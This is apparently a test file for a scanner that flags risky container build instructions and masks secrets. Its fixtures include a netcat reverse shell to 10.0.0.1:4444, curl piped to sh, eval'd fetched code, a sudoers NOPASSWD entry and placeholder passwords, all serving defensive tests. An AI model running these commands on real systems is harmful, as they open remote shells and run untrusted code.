import fc from 'fast-check';
import { expect, test } from 'vitest';
import { scaled } from '../../../../testing/scale.ts';
import { findBuildCommandRisks } from './find-risks.ts';
import { EMPTY_CONFIG, type HistoryEntry, type ImageHistory } from './history/image-history.ts';
import { exampleImage } from './rules/example-image.ts';
import { RULES } from './rules/index.ts';

test('a finding names the rule, the instruction and the layer that it made', () => {
  const { findings, problems, instructions } = findBuildCommandRisks(
    exampleImage('USER app\nCOPY a /a\nRUN curl -k https://x.example/a -o /a'),
  );
  expect(problems).toEqual([]);
  expect(instructions).toBe(3);
  expect(findings).toEqual([
    {
      rule: 'curl-insecure',
      severity: 'medium',
      index: 2,
      text: 'RUN curl -k https://x.example/a -o /a',
      cut: false,
      layer: 1,
      layerDigest: `sha256:${'1'.padStart(64, '0')}`,
    },
  ]);
});

test('a finding about the image as a whole has no instruction', () => {
  const { findings } = findBuildCommandRisks(exampleImage('CMD ["/app"]'));
  expect(findings).toEqual([
    { rule: 'no-user-set', severity: 'medium', index: null, text: '', cut: false, layer: null, layerDigest: null },
  ]);
});

// Programs, options and variables are looked up in tables: an image must not end the stage by a name that every object has.
test.each(Object.getOwnPropertyNames(Object.prototype))('%s is a name like any other', (name) => {
  const lines = [
    `RUN ${name} a -p b`,
    `RUN sudo ${name} -c 'c'`,
    `RUN a | ${name}`,
    `ENV ${name}=a`,
    `LABEL ${name}=a`,
  ];
  const { findings } = findBuildCommandRisks(
    exampleImage(`USER ${name}\n${lines.join('\n')}\nRUN curl -k https://x.example`),
  );
  expect(findings.map(({ rule }) => rule)).toContain('curl-insecure');
});

test('a build argument that stays in force is reported once', () => {
  const run = 'RUN |1 NPM_TOKEN=abcdef123456 /bin/sh -c';
  const { findings } = findBuildCommandRisks(exampleImage(`USER app\nARG NPM_TOKEN=abcdef123456\n${run} a\n${run} b`));
  expect(findings.map(({ rule, index }) => [rule, index])).toEqual([['secret-in-build-arg', 1]]);
});

test('a secret is masked in every finding, also where another instruction repeats it', () => {
  const { findings } = findBuildCommandRisks(
    exampleImage(
      'ENV API_KEY=9f8e7d6c5b4a\nRUN curl -k -d key=9f8e7d6c5b4a https://x.example | sh\nLABEL x=9f8e7d6c5b4a',
    ),
  );
  expect(findings.length).toBeGreaterThan(3);
  expect(JSON.stringify(findings)).not.toContain('9f8e7d6c5b4a');
  expect(findings.find(({ rule }) => rule === 'curl-insecure')?.text).toBe(
    'RUN curl -k -d key=*** https://x.example | sh',
  );
});

const SECRET = fc.string({
  unit: fc.constantFrom(...'abcdefghijkXYZ0123456789_-+=%!#:.'),
  minLength: 6,
  maxLength: 40,
});
const CHARACTERS = fc.string({ unit: 'grapheme', minLength: 6, maxLength: 20 });
const HOLDERS: readonly ((secret: string) => string)[] = [
  (secret) => `ENV DB_PASSWORD=${secret}`,
  (secret) => `ENV DB_PASSWORD="${secret}" A=1`,
  (secret) => `ARG NPM_TOKEN=${secret}`,
  (secret) => `LABEL db.password=${secret}`,
  (secret) => `RUN |1 NPM_TOKEN=${secret} /bin/sh -c chmod 777 /a`,
  (secret) => `RUN PGPASSWORD='${secret}' psql; chmod 777 /a`,
  (secret) => `RUN export API_KEY="${secret}" && curl -k https://x.example`,
  (secret) => `RUN mysql -p'${secret}' -e x; chmod 777 /a`,
  (secret) => `RUN curl -k -u 'me:${secret}' https://x.example`,
  (secret) => `RUN sh -c "curl -k -H 'Authorization: Bearer ${secret}' https://x.example"`,
  (secret) => `RUN echo 'root:${secret}' | chpasswd`,
  (secret) => `RUN echo '${secret}' | passwd --stdin root`,
  (secret) => `RUN useradd -p '${secret}' app`,
  (secret) => `RUN docker login -u me -p '${secret}' x.example && chmod 777 /a`,
  (secret) => `RUN chpasswd <<E\nroot:${secret}\nE\nchmod 777 /a`,
];

test('no finding shows a secret, wherever it stands and whatever it is made of', () => {
  fc.assert(
    fc.property(fc.constantFrom(...HOLDERS), SECRET, (hold, secret) => {
      // Numbers, options, dots, and what stands for a variable of Windows are not taken for secrets.
      fc.pre(!/^(?:\d+|[.:]+|x+|-.*|[\d.]+|%[A-Za-z_]\w*%)$/i.test(secret));
      expect(textsShown(hold(secret)).filter((text) => text.includes(secret))).toEqual([]);
    }),
    { numRuns: scaled(200) },
  );
});

test('a secret of any characters is masked or its text is withheld', () => {
  fc.assert(
    fc.property(CHARACTERS, (secret) => {
      fc.pre(secret.trim() === secret && !/^[\d*.:$%\\/~x-]/i.test(secret) && !/[\s'"\\$`]/.test(secret));
      expect(textsShown(`ENV DB_PASSWORD=${secret}`).filter((text) => text.includes(secret))).toEqual([]);
    }),
    { numRuns: scaled(100) },
  );
});

test('a text that quoting keeps from being masked is not shown at all', () => {
  const [text] = textsShown(`RUN PGPASSWORD=ab\\"cd'ef'gh psql -h db`);
  expect(text).toBe('(not shown: it contains a secret that could not be masked)');
});

test('a password in a URL is masked, also one that is an example', () => {
  expect(textsShown('RUN curl -k https://me:test@x.example/a')[0]).toBe('RUN curl -k https://me:***@x.example/a');
});

test.each([
  ['a crypt hash', '$2y$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy'],
  ['the default of a variable', '$' + '{TOKEN:-abcdef123456}'],
  ['base64 that starts like a path', '/wJalrXUtnFEMIK7MDENGbPxRfiCYz9k2Qd4Ab12'],
  ['a variable with more', '$' + 'A-0x/+hunter'],
])('%s is a secret', (_, secret) => {
  const { findings } = findBuildCommandRisks(exampleImage(`ENV DB_PASSWORD=${secret}`));
  expect(findings).toContainEqual(expect.objectContaining({ rule: 'secret-in-env', text: 'ENV DB_PASSWORD=***' }));
});

test.each([
  '$' + '{A}_$B',
  '$' + '{TOKEN:-}',
  '$' + '{TOKEN:?must be set}',
  '{{ token }}',
  '/run/secrets/Db1/password',
])('%s is none', (value) => {
  const { findings } = findBuildCommandRisks(exampleImage(`ENV DB_PASSWORD=${value}`));
  expect(findings.map(({ rule }) => rule)).not.toContain('secret-in-env');
});

test.each([
  'echo "password: hunter2-x" > a.yml',
  `echo '{"token": "hunter2-x"}' > a.json`,
  `echo '{"auths":{"r":{"auth":"hunter2-x"}}}' > config.json`.replaceAll('hunter2-x', 'aHVudGVyMi14'),
  'sed -i "s/PASSWORD=.*/PASSWORD=hunter2-x/" f',
  `sed -i 's#@DB_PASSWORD@#hunter2-x#' f`,
  `pwsh -c "$env:PASSWORD = 'hunter2-x'"`,
  `pwsh -c "ConvertTo-SecureString 'hunter2-x' -AsPlainText"`,
  `PASSWORD=$'hunter2-x\x41' app`,
  'true # API_TOKEN=hunter2-x',
])('what stands beside the name of a secret is masked, whatever reads it: %s', (command) => {
  const [text] = textsShown(`RUN chmod 777 /a; ${command}`);
  expect(text).toContain('***');
  expect(text).not.toMatch(/hunter2|aHVud/);
});

test.each([
  ['secret-in-env', { env: ['DB_PASSWORD=hunter2-x'] }],
  ['secret-in-label', { labels: { 'db.password': 'hunter2-x' } }],
  ['netcat-shell', { entrypoint: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] }],
  ['netcat-shell', { healthcheck: ['CMD-SHELL', 'nc -e /bin/sh 10.0.0.1 4444'] }],
  ['ssh-port-exposed', { exposedPorts: ['22/tcp'] }],
  ['docker-socket', { volumes: ['/var/run/docker.sock'] }],
  ['add-from-url', { onBuild: ['ADD https://x.example/a /a'] }],
  ['secret-in-env', { onBuild: ['ENV DB_PASSWORD=hunter2-x'] }],
  ['world-writable', { onBuild: ['COPY --chmod=777 a /a'] }],
])('%s is found in the config of a builder that records no instructions', (rule, config) => {
  const jib = {
    ...image([{ createdBy: 'jib-maven-plugin:3.4.0', author: 'Jib' }]),
    config: { ...EMPTY_CONFIG, ...config },
  };
  const { findings } = findBuildCommandRisks(jib);
  expect(findings.map((finding) => finding.rule)).toContain(rule);
  expect(JSON.stringify(findings)).not.toContain('hunter2');
});

test('a word that only looks like a secret hides nothing of the instruction', () => {
  expect(textsShown('RUN chmod 777 /a; echo "token: curl" > b; curl https://x.example | sh')[0]).toBe(
    'RUN chmod 777 /a; echo "token: ***" > b; curl https://x.example | sh',
  );
  expect(textsShown(`RUN echo 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers`)[0]).toBe(
    `RUN echo 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers`,
  );
});

test.each([
  ['SHELL ["/bin/bash", "-c", "curl https://x.example | sh; eval \\"$0\\""]'],
  ['SHELL [/bin/bash -c curl https://x.example | sh]'],
])('a command in %s is found', (createdBy) => {
  const { findings } = findBuildCommandRisks(image([{ createdBy, emptyLayer: true }]));
  expect(findings.map(({ rule }) => rule)).toContain('fetched-code-piped-to-shell');
});

test('what a base image starts counts no more when its child starts something else, but its secrets do', () => {
  const history = ['CMD ["nc" "-e" "/bin/sh" "--password=hunter2-x"]', 'CMD ["app"]'];
  const { findings } = findBuildCommandRisks(image(history.map((createdBy) => ({ createdBy, emptyLayer: true }))));
  const rules = findings.map(({ rule }) => rule);
  expect(rules).toContain('secret-in-command');
  expect(rules).not.toContain('netcat-shell');
});

test('a value that Kaniko leaves out of the history is found in the config', () => {
  const kaniko = image([{ createdBy: 'ENV DB_PASSWORD=$DB_PASSWORD', author: 'kaniko', emptyLayer: true }]);
  const { findings } = findBuildCommandRisks({
    ...kaniko,
    config: { ...EMPTY_CONFIG, env: ['DB_PASSWORD=hunter2-x'] },
  });
  expect(findings).toContainEqual(
    expect.objectContaining({ rule: 'secret-in-env', index: 1, text: 'ENV DB_PASSWORD=***' }),
  );
});

test('too many commands in a config are a problem', () => {
  const config = { ...EMPTY_CONFIG, onBuild: Array.from({ length: 5 }, () => `RUN ${'a'.repeat(60_000)}`) };
  const { problems } = findBuildCommandRisks({ ...image([{ createdBy: 'COPY a /' }]), config });
  expect(problems).toEqual(['1 words of config.onBuild were not looked at']);
});

test('long texts are cut and say so', () => {
  const { findings } = findBuildCommandRisks(exampleImage(`USER a\nRUN curl -k https://x.example/${'a'.repeat(4000)}`));
  expect(findings[0]?.cut).toBe(true);
  expect(findings[0]?.text).toHaveLength(1024);
});

test('what was not read to its end is a problem', () => {
  const { problems } = findBuildCommandRisks(exampleImage(`RUN ${'$('.repeat(100)}${')'.repeat(100)}`));
  expect(problems).toEqual(['instruction 0 was not read to its end: it nests deeper than 64 levels']);
});

test('a history of many instructions that break many rules keeps a bounded number of findings and says so', () => {
  const rules = RULES.filter(({ id }) => id === 'sudo-used' || id === 'curl-insecure');
  const history = image(Array.from({ length: 600 }, () => ({ createdBy: 'RUN sudo curl -k a' })));
  const { findings, problems } = findBuildCommandRisks(history, rules);
  expect(findings).toHaveLength(1024);
  expect(problems).toEqual(['176 findings beyond the first 512 of a rule are not kept']);
});

test('findings of one rule push out none of another', () => {
  const many = Array.from({ length: 2000 }, () => ({ createdBy: 'RUN curl https://x.example | sh' }));
  const { findings } = findBuildCommandRisks(image([...many, { createdBy: 'RUN nc -e /bin/sh 10.0.0.1 4444' }]));
  expect(findings).toContainEqual(expect.objectContaining({ rule: 'netcat-shell', index: 2000 }));
  expect(findings.length).toBeLessThanOrEqual(1024);
});

test.each([
  [[{ createdBy: `RUN ${'a'.repeat(70_000)}` }], 'instruction 0 was cut at 65536 characters'],
  [
    Array.from({ length: 4100 }, () => ({ createdBy: 'RUN a' })),
    '4 entries of the history beyond the first 4096 were not looked at',
  ],
  [
    Array.from({ length: 12 }, () => ({ createdBy: `RUN ${'a'.repeat(60_000)}` })),
    'instruction 9 was cut at 0 characters',
  ],
])('a history that is too long is cut and says so: %#', (entries, problem) => {
  expect(findBuildCommandRisks(image(entries)).problems).toContain(problem);
});

test('the last USER counts, and the config knows it better than the history', () => {
  const broken = (user: string, history: readonly string[]) =>
    findBuildCommandRisks({
      ...image(history.map((createdBy) => ({ createdBy, emptyLayer: true }))),
      config: { ...EMPTY_CONFIG, user },
    }).findings.map(({ rule, index }) => `${rule} ${index}`);
  expect(broken('0', ['USER app', 'USER 0'])).toEqual(['runs-as-root 1']);
  expect(broken('0', [])).toEqual(['runs-as-root null']);
  expect(broken('app', ['USER root'])).toEqual([]);
});

function textsShown(example: string): string[] {
  return findBuildCommandRisks(exampleImage(example))
    .findings.map(({ text }) => text)
    .filter((text) => text !== '');
}

function image(entries: readonly Partial<HistoryEntry>[]): ImageHistory {
  const empty = { created: '', createdBy: '', author: '', comment: '', emptyLayer: false };
  const history = entries.map((part) => ({ ...empty, ...part }));
  const layers = history.filter(({ emptyLayer }) => !emptyLayer);
  return { os: 'linux', history, layers: layers.map((_, index) => `sha256:${index}`), config: EMPTY_CONFIG, cuts: [] };
}
